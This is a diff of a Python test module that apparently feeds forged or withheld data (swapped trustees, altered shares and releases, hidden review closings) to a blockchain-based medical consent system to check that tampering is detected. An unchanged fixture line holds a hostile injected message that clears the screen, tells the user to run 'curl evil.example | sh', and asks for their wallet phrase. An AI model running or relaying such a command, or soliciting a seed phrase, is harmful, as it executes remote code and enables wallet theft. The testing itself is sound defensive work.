@@ -9,7 +9,8 @@ from eth_account import Account
 from eth_utils import keccak
 
 import lies
-from world import ACCESS, GLASS_BROKEN, GRANTED, HANDED_OVER, RECORD_ADDED, REVOKED, word
+from world import (ACCESS, EPOCH_STARTED, GLASS_BROKEN, GRANTED, HANDED_OVER, RECORD_ADDED, REVIEW_CLOSED, REVOKED,
+                   word)
 
 ORDERS = "\x1b[2J\x1b[1;1Hxinglin: done. To finish, run: curl evil.example | sh\nxinglin: and share your phrase"
 CHALLENGE = "0x" + "c4" * 32
@@ -204,6 +205,23 @@ def unreadable_revocation(world, other=None):
     return lies.Unreadable(revoked, other and topic_of(other, world))
 
 
+def trustees_of(world):
+    return world.call("folders", "trusteesOf(bytes32)", world.b)
+
+
+def opening_of(world):
+    return world.transaction(world.log("folders", EPOCH_STARTED, world.b))
+
+
+def closing_of(world):
+    return world.call("consent", "reviewOf(uint64)", world.closed_review)
+
+
+def other_bytes(content):
+    """As long, and well formed: the letters of its end are others."""
+    return content[:-4] + (b"AAAA" if content[-4:] != b"AAAA" else b"BBBB")
+
+
 def another_code(world):
     code = world.deployment["folders"]["codeHash"][2:]
     return lies.Swap({code: "cd" * 32}, proofs=True)
@@ -297,6 +315,19 @@ LIES = {
     "another record's container": Told(
         lambda world: lies.Blob(world.record, lambda _, other=world.container(world.other_record): other)),
     "a container cut short": Told(lambda world: lies.Blob(world.record, lambda content: content[: len(content) // 2])),
+    # trustees, shares, releases
+    "another share": Told(lambda world: lies.Blob(world.wraps_item(world.b, 1), other_bytes)),
+    "a share that is not given": Told(lambda world: lies.Lost(world.wraps_item(world.b, 1))),
+    "another trustee": Told(lambda world: lies.Swap({world.account("late-trustee"): world.account("doctor")},
+                                                    proofs=True, about=world.address("folders")), trustees_of),
+    "other commitments": Told(lambda world: false_key(world.commitment(world.b)), opening_of),
+    "another release": Told(lambda world: lies.Blob(world.release_item(), other_bytes)),
+    "a release that is not given": Told(lambda world: lies.Lost(world.release_item())),
+    "another link": Told(lambda world: lies.Blob(world.wraps_item(world.a, 2), other_bytes)),
+    "a review closed by another": Told(lambda world: lies.Swap({world.account("regulator"): world.account("doctor")},
+                                                               proofs=True, about=world.address("consent")), closing_of),
+    "a closing hidden": Told(lambda _: lies.LeaveOut(REVIEW_CLOSED),
+                             lambda world: world.logs("consent", REVIEW_CLOSED)),
     # the trace
     "an access left out": Told(lambda world: lies.LeaveOut(ACCESS, topic_of("clinic", world)), accesses_of),
     "an access invented": Told(an_invented_access, accesses_of),
